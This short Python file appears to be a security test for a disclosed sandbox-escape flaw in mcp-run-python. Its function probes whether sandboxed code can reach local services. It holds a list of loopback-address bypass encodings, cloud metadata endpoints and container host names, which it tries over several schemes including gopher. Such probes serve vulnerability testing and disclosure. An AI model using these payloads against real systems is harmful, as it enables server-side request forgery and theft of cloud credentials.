# From: mcp-run-python CVE-2026-25904: code in the sandbox reached the services of the machine, and those of its network.
# Ends: []
from gains import gains

NAMES = [
    "127.0.0.1", "localhost", "localhost.", "LOCALHOST", "127.1", "127.0.1", "0", "0.0.0.0", "2130706433", "0x7f000001", "0x7f.1", "017700000001", "127.0.0.1.",
    "[::1]", "[::]", "[::ffff:127.0.0.1]", "[::ffff:7f00:1]", "[64:ff9b::7f00:1]", "[fe80::1%25lo]", "①②⑦.⓪.⓪.①", "user@127.0.0.1", "127.0.0.1#@example.com", "example.com@127.0.0.1",
    "169.254.169.254", "metadata.google.internal", "host.docker.internal", "host.containers.internal",
]


async def attack(probe):
    import urllib.request

    import pyodide.http

    port = probe["port"]
    found = gains([lambda url=f"{scheme}://{name}:{port}/": urllib.request.urlopen(url, timeout=0.2).read() for name in NAMES for scheme in ("http", "HTTP", "https", "ftp", "gopher")])
    for name in NAMES:
        try:
            found.append(repr(await pyodide.http.pyfetch(f"http://{name}:{port}/")))
        except Exception:
            pass
    return found
